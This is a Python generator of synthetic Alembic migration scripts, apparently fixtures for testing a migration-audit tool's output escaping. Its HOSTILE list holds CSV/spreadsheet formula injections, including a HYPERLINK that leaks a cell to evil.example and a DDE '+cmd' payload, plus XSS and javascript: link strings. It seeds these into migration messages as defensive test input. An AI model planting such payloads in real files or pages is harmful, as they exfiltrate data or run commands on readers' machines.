"""The scripts of the audited project: each says what it wants in plain words, or in words that attack a reader."""

from __future__ import annotations

import hashlib
from collections.abc import Sequence
from dataclasses import dataclass, replace
from enum import StrEnum
from random import Random

# What a spreadsheet would run, a browser would draw and a terminal would obey, as authors write it.
HOSTILE = (
    "=1+1",
    "=HYPERLINK(\"https://evil.example/\"&A1,\"click\")",
    "+cmd|' /C calc'!A0",
    "-2+3 rows are moved",
    "@SUM(A1:A9)",
    "<script>alert(1)</script> & <b>bold</b>",
    "| a pipe | `code` | [link](javascript:alert(1)) | **bold** |",
    "one, two; \"three\", 'four'",
    "été, Ελληνικά, 数据库, 🚚",
)  # fmt: skip
BLOCK = 8  # scripts about one table
_MESSAGES = ("the shop asks for it", "support asks for it", "a report needs it", "the warehouse needs it")


class Does(StrEnum):
    """What a script does to the schema."""

    CREATE = "create"
    COLUMN = "column"
    INDEX = "index"
    DATA = "data"
    DROP = "drop"  # a table with its rows
    SEED = "seed"  # a row, which fails where somebody put one with its number by hand
    IN_PARTS = "in-parts"  # a table, and what follows it in a transaction of its own, until somebody mends that


@dataclass(frozen=True, slots=True)
class Script:
    """number: its place in the history, from 0. edition: raised by a change of its text. authors: of the git commit,
    then its co-authors. mended: see IN_PARTS."""

    number: int
    revision: str
    parent: str | None
    does: Does
    message: str
    authors: tuple[str, ...]
    ticket: str = ""
    edition: int = 0
    mended: bool = False

    @property
    def path(self) -> str:
        return f"migrations/versions/{self.revision}_{self.does.replace('-', '_')}.py"

    @property
    def table(self) -> str:
        return f"area_{self.number - self.number % BLOCK}"

    @property
    def tables(self) -> list[str]:
        """Those that it makes."""
        own = [f"part_{self.number}"] if self.does is Does.IN_PARTS else []
        block = [self.table] if self.number % BLOCK == 0 else []
        return [*block, *([] if self.number else ["markers"]), *own]

    @property
    def text(self) -> str:
        up, down = _statements(self)
        return _SCRIPT.format(
            message=self.message,
            reason=HOSTILE[self.number % len(HOSTILE)].replace('"', "'"),
            ticket=f"\nTicket: {self.ticket}\n" if self.ticket else "",
            contract=f"\nContract mapping:\n    api_{self.table}.id is {self.table}.id\n"
            if self.does is Does.CREATE
            else "",
            edition=self.edition,
            revision=self.revision,
            parent=self.parent,
            up="\n    ".join(up),
            down="\n    ".join(down),
        )

    def edited(self) -> Script:
        return replace(self, edition=self.edition + 1)


def revision_id(seed: int, number: int, side: str = "") -> str:
    return hashlib.sha256(f"{seed} {number} {side}".encode()).hexdigest()[:12]


def write(
    seed: int, number: int, parent: str | None, does: Does | None, authors: Sequence[str], *, side: str = ""
) -> Script:
    """does: None for what comes next in the table's life. side: of another branch."""
    rng = Random(f"{seed} script {number} {side}")
    revision = revision_id(seed, number, side)
    chosen = does or usual(number)
    plain = f"{chosen} number {number}: {rng.choice(_MESSAGES)}"
    message = rng.choice(HOSTILE[:7]).replace('"', "'") + f" ({number})" if rng.random() < 0.15 else plain
    ticket = f"SHOP-{1000 + number}" if rng.random() < 0.8 else ""
    return Script(number, revision, parent, chosen, message, tuple(authors), ticket)


def usual(number: int) -> Does:
    """By its place among the scripts about one table."""
    kinds = (Does.CREATE, Does.COLUMN, Does.COLUMN, Does.INDEX, Does.DATA, Does.COLUMN, Does.INDEX, Does.DATA)
    return kinds[number % BLOCK]


def _statements(script: Script) -> tuple[list[str], list[str]]:
    """The bodies of upgrade() and downgrade(), line by line. The first script of a block makes its table, whatever else
    it does, and the first of all the table that SEED fills."""
    up, down = _own(script)
    making = [f'op.create_table("{name}", {_COLUMNS})' for name in script.tables]
    dropping = [f'op.drop_table("{name}")' for name in script.tables]
    return [*making, *up], [*down, *dropping]


def _own(script: Script) -> tuple[list[str], list[str]]:
    n, table = script.number, script.table
    match script.does:
        case Does.CREATE:
            return [], []
        case Does.COLUMN:
            return [f'op.add_column("{table}", sa.Column("c{n}", sa.Integer))'], [f'op.drop_column("{table}", "c{n}")']
        case Does.INDEX:
            return [f'op.create_index("ix_{n}", "{table}", ["name"])'], [f'op.drop_index("ix_{n}", "{table}")']
        case Does.DATA:
            undo = f"DELETE FROM {table} WHERE id = {n}"
            return [f"op.execute(\"INSERT INTO {table} (id, name) VALUES ({n}, '=1+1')\")"], [f'op.execute("{undo}")']
        case Does.DROP:
            old = f"area_{n - n % BLOCK - BLOCK}"
            return [f'op.drop_table("{old}")'], [f'op.create_table("{old}", {_COLUMNS})']
        case Does.SEED:
            row = f"op.execute(\"INSERT INTO markers (id, name) VALUES ({n}, 'seed')\")"
            return [row], [f'op.execute("DELETE FROM markers WHERE id = {n}")']
        case Does.IN_PARTS:
            ends = [] if script.mended else ['op.execute("COMMIT")']
            row = f"op.execute(\"INSERT INTO part_{n} (id, name) VALUES ({n}, 'part')\")"
            return [*ends, row], []


_COLUMNS = 'sa.Column("id", sa.Integer, primary_key=True), sa.Column("name", sa.String(80), nullable=False)'
_SCRIPT = '''"""{message}
{ticket}
Rationale:
    {reason}
    The second line of the reason.
{contract}
Rollback:
    The downgrade brings the old schema back.
"""

import sqlalchemy as sa
from alembic import op

# edition {edition}
revision = "{revision}"
down_revision = {parent!r}
branch_labels = None
depends_on = None


def upgrade() -> None:
    {up}


def downgrade() -> None:
    {down}
'''
